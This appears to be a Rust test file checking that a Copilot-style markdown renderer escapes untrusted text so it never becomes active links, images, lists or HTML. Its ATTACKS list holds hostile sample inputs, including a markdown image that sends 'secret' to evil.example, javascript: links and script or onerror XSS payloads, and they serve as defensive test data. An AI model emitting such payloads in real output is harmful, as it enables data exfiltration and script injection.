//! Words from outside in Markdown, read by the reference implementation of GitHub's: whatever they
//! are, they are text.

use comrak::nodes::NodeValue;
use comrak::{Arena, Options, parse_document};
use proptest::prelude::*;

use super::fakes::copilot;
use crate::views::copilot_markdown;
use crate::views::markdown::{code, line, quote};

/// The kinds of active nodes that a text has.
fn active(markdown: &str) -> Vec<String> {
    let arena = Arena::new();
    let mut options = Options::default();
    options.extension.autolink = true;
    options.extension.table = true;
    options.extension.strikethrough = true;
    options.extension.tasklist = true;
    options.extension.footnotes = true;
    options.extension.superscript = true;
    options.extension.math_dollars = true;
    let root = parse_document(&arena, markdown, &options);
    let is_active = |value: &NodeValue| {
        !matches!(
            value,
            NodeValue::Document
                | NodeValue::Paragraph
                | NodeValue::Text(_)
                | NodeValue::Code(_)
                | NodeValue::SoftBreak
                | NodeValue::LineBreak
        )
    };
    let values = root
        .descendants()
        .map(|node| node.data.borrow().value.clone());
    values
        .filter(is_active)
        .map(|value| format!("{value:?}"))
        .collect()
}

/// What a person sees of a text.
fn seen(markdown: &str) -> String {
    let arena = Arena::new();
    let root = parse_document(&arena, markdown, &Options::default());
    let mut all = String::new();
    for node in root.descendants() {
        match &node.data.borrow().value {
            NodeValue::Text(text) => all.push_str(text),
            NodeValue::Code(code) => all.push_str(&code.literal),
            NodeValue::SoftBreak | NodeValue::LineBreak => all.push(' '),
            _ => {}
        }
    }
    all
}

const ATTACKS: [&str; 24] = [
    "![x](https://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "<img src=x onerror=alert(1)>",
    "<https://evil.example>",
    "https://evil.example/?q=secret",
    "www.evil.example",
    "mail me@evil.example now",
    "<script>alert(1)</script>",
    "# heading",
    "- item",
    "+ item",
    "1. item",
    "2) item",
    "> quote",
    "===",
    "---",
    "```\ncode",
    "    indented",
    "| a | b |\n|---|---|\n| c | d |",
    "[ref]: https://evil.example",
    "[^1]: note",
    "&lt;b&gt; &#60;b&#62;",
    "$`x`$ ~~gone~~ **bold** _em_",
    "\\[a](https://evil.example) `` ` ``",
];

#[test]
fn no_word_from_outside_becomes_active() {
    let unescaped = ATTACKS.iter().filter(|attack| active(attack).is_empty());
    assert!(unescaped.count() <= 4, "they are attacks");
    for attack in ATTACKS {
        assert_eq!(
            active(&line(attack)),
            [""; 0],
            "{attack} → {}",
            line(attack)
        );
        assert_eq!(
            active(&code(attack)),
            [""; 0],
            "{attack} → {}",
            code(attack)
        );
        let quoted = active(&quote(attack));
        assert_eq!(quoted, ["BlockQuote"], "{attack} → {}", quote(attack));
    }
}

#[test]
fn what_cannot_be_seen_or_turns_the_line_is_left_out() {
    assert_eq!(line("a\u{202e}b\u{200b}c\u{7}d\u{e0041}"), "abc d");
    assert_eq!(code("a\r\n\tb\u{2028}c"), "`a b c`");
    assert_eq!(code("a ` b `` c"), "```a ` b `` c```");
    assert_eq!(code("`a`"), "`` `a` ``");
    assert_eq!(code(" \n"), "");
    assert_eq!(
        line("web-1 is at 12.5 % (up 3)"),
        "web-1 is at 12.5 % (up 3)"
    );
}

#[test]
fn an_answer_is_text_whatever_it_says() {
    for attack in ATTACKS {
        let mut answer = copilot::answer(attack);
        answer.facts = vec![copilot::fact("E1", attack)];
        answer.notices = vec![attack.into()];
        answer.proposals[0].steps = vec![attack.into()];
        answer.proposals[0].verify = attack.into();
        answer.proposals[0].failure_type = attack.into();
        let text = copilot_markdown::answer(&answer);
        let active = active(&text);
        let lists = active
            .iter()
            .filter(|kind| kind.starts_with("List") || kind.starts_with("Item"));
        assert_eq!(
            lists.count(),
            active.len(),
            "{attack}: {active:?} in\n{text}"
        );
        assert_eq!(
            active.len(),
            4,
            "two lists of one item: {active:?} in\n{text}"
        );
    }
}

proptest! {
    #[test]
    fn any_text_stays_text_and_is_seen_whole(
        text in r"[ -~\n\t`*_<>\[\]()!#&\\:/@w.\-+=|~$^é]{0,60}"
    ) {
        let words: Vec<&str> = text.split_whitespace().collect();
        let words = words.join(" ");
        for markdown in [line(&text), code(&text)] {
            prop_assert_eq!(active(&markdown), Vec::<String>::new(), "{}", markdown);
            prop_assert_eq!(seen(&markdown), words.clone(), "{}", markdown);
        }
    }
}
